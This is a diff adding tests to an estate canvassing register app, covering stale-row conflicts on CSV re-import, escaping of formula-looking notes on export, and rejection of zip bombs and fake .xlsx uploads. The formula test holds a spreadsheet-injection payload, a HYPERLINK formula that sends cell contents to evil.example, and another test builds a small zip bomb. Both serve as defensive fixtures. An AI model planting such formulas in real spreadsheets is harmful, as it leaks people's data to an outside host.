@@ -91,3 +91,58 @@ describe('the register in and out', () => {
     expect((await fetch(`${server.url}/api/estates/1/register.xlsx`)).status).toBe(401);
   });
 });
+
+describe('a register re-imported after the campaign moved on', () => {
+  it('refuses a row changed since the file was exported, naming it, and writes nothing', async () => {
+    const exported = await (await fetch(`${server.url}/api/estates/1/register.csv`, { headers: { cookie: staff } })).text();
+    const lines = exported.split('\r\n');
+    const header = lines[0]!.replace(/^\uFEFF/, '').split(',');
+    const col = (name: string) => header.indexOf(name);
+    const target = lines.findIndex((l, i) => i > 0 && l.split(',')[col('状态')] === 'unvisited');
+    const cells = lines[target]!.split(',');
+    const door = cells[col('门牌号')]!;
+    const room = cells[col('室号')]!;
+    // Meanwhile a canvasser records a signature on that flat.
+    const flat = server.db.select().from(flats).innerJoin(stairwells, eq(stairwells.id, flats.stairwellId)).where(and(eq(stairwells.doorNumber, door), eq(flats.room, room))).get()!.flats;
+    server.db.update(flats).set({ status: 'signed', version: flat.version + 1 }).where(eq(flats.id, flat.id)).run();
+    // The committee edits the morning's file: a new note on that row.
+    cells[col('备注')] = '电话确认过';
+    lines[target] = cells.join(',');
+    const before = eventCount();
+    const res = await upload(Buffer.from(lines.join('\r\n')), 'register.csv', false);
+    expect(res.status).toBe(422);
+    expect(res.body.problems!.join('\n')).toMatch(new RegExp(`row ${target + 1}: ${door} ${room} changed since this file was exported \\(version ${flat.version} in the file, ${flat.version + 1} now; now signed\\)`));
+    expect(statusOf(door, room)).toBe('signed');
+    expect(eventCount()).toBe(before);
+    // Cleared 版本 cell: the committee means to overwrite.
+    cells[col('版本')] = '';
+    cells[col('状态')] = 'signed';
+    lines[target] = cells.join(',');
+    expect((await upload(Buffer.from(lines.join('\r\n')), 'register.csv', false)).body).toMatchObject({ ok: true, applied: true });
+  });
+
+  it('writes a note that looks like a formula as text, and reads it back unchanged', async () => {
+    const attack = '=HYPERLINK("http://evil.example/?"&F2&G2,"点此")';
+    const f = server.db.select().from(flats).get()!;
+    server.db.update(flats).set({ note: attack }).where(eq(flats.id, f.id)).run();
+    const csv = await (await fetch(`${server.url}/api/estates/1/register.csv`, { headers: { cookie: staff } })).text();
+    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    expect(csv).toContain(`'=HYPERLINK`);
+    const dry = await upload(Buffer.from(csv), 'register.csv', true);
+    expect(dry.body).toMatchObject({ ok: true, changes: [] });
+  });
+
+  it('refuses a zip bomb named .xlsx and a text file named .xlsx with a sentence, not a 500', async () => {
+    const { zipSync } = await import('fflate');
+    const bomb = zipSync({ 'xl/worksheets/sheet1.xml': new Uint8Array(150 * 1024 * 1024) }, { level: 9 });
+    expect(bomb.length).toBeLessThan(1024 * 1024);
+    const big = await upload(bomb, '名册.xlsx', true);
+    expect(big.status).toBe(422);
+    expect(big.body.problems![0]).toMatch(/expands to 150 MB/);
+    const text = await upload(Buffer.from('门牌号,楼层\n'), '名册.xlsx', true);
+    expect(text.status).toBe(422);
+    expect(text.body.problems![0]).toMatch(/not an XLSX file/);
+    expect(server.logs).toEqual([]);
+    expect((await fetch(`${server.url}/healthz`)).status).toBe(200);
+  });
+});
